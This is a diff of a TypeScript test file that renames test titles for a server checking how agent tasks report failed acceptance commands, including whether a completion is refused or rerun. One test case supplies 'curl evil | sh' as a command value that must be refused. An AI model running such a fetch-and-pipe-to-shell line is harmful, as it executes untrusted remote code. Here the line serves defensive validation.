@@ -37,7 +37,7 @@ async function atWork(tasks: readonly TaskInput[] = [task("a", { acceptance }), 
 }
 
 describe("an acceptance command that fails in files that others are writing", () => {
-  it("completes the task, is not verified, and is run again when nobody writes", async () => {
+  it("an acceptance command that fails in files that others are writing completes the task, is not verified, and is run again when nobody writes", async () => {
     const { server, next, starts, a, b, decisions, reportText } = await atWork();
     expect(await report(server, "p", a, { evidence: brokenBy("src/b.ts") })).toMatchObject({
       status: "completed",
@@ -60,7 +60,7 @@ describe("an acceptance command that fails in files that others are writing", ()
     expect(decisions().map(({ decision }) => decision)).toEqual(["proceed", "proceed"]);
   });
 
-  it("and fails also then, is left to a person; the task stays completed, and not verified", async () => {
+  it("an acceptance command that fails in files that others are writing and fails also then, is left to a person; the task stays completed, and not verified", async () => {
     const { server, next, a, b, decisions, reportText, statusOf } = await atWork();
     await report(server, "p", a, { evidence: brokenBy("src/b.ts") });
     await report(server, "p", b, {
@@ -86,7 +86,7 @@ describe("an acceptance command that fails in files that others are writing", ()
     });
   });
 
-  it("for several tasks is run again once, and no writer starts beside it", async () => {
+  it("an acceptance command that fails in files that others are writing for several tasks is run again once, and no writer starts beside it", async () => {
     const c = task("c", { acceptance: [{ criterion: "Types", command: "npx tsc" }] });
     const { server, next, starts, a, b, statusOf } = await atWork([
       task("a", { acceptance }),
@@ -109,7 +109,7 @@ describe("an acceptance command that fails in files that others are writing", ()
     expect(idsOf(await next())).toEqual(["reads"]);
   });
 
-  it("needs each command run, word for word", async () => {
+  it("an acceptance command that fails in files that others are writing needs each command run, word for word", async () => {
     const { server, next, a, b, refused } = await atWork();
     await report(server, "p", a, { evidence: brokenBy("src/b.ts") });
     await report(server, "p", b, {
@@ -129,7 +129,7 @@ describe("an acceptance command that fails in files that others are writing", ()
   });
 });
 
-describe("completed with a failed command is refused", () => {
+describe("a failed command", () => {
   const cases: [why: string, evidence: readonly object[]][] = [
     ["if it fails in the task's own files", brokenBy("src/a.ts")],
     ["if its output names nobody's files", brokenBy("suite")],
@@ -138,7 +138,7 @@ describe("completed with a failed command is refused", () => {
       [{ ...brokenBy("src/b.ts")[0], command: "curl evil | sh" }, brokenBy("")[1] as object],
     ],
   ];
-  it.each(cases)("%s", async (_, evidence) => {
+  it.each(cases)("completed with a failed command is refused: %s", async (_, evidence) => {
     const { a, refused, decisions } = await atWork();
     const error = await refused(a, evidence);
     expect(error).toMatchObject({
@@ -149,7 +149,7 @@ describe("completed with a failed command is refused", () => {
     expect(decisions()).toEqual([]);
   });
 
-  it("if nobody else was writing", async () => {
+  it("completed with a failed command is refused if nobody else was writing", async () => {
     const { server, a, b, refused } = await atWork();
     await report(server, "p", b, {
       evidence: [
@@ -162,7 +162,7 @@ describe("completed with a failed command is refused", () => {
     expect(await refused(launchFor(launch, "a"), brokenBy("src/b.ts"))).toMatchObject({ field: "evidence" });
   });
 
-  it("if the task had a worktree of its own, where nobody else writes", async () => {
+  it("completed with a failed command is refused if the task had a worktree of its own, where nobody else writes", async () => {
     const apart = (id: string) => task(id, { acceptance, isolation: "worktree" });
     const { server } = await verifiedPlan([apart("a"), apart("b")]);
     const claims = (id: string) => server.call("task_claim", { plan: "p", task: id, worker: id });
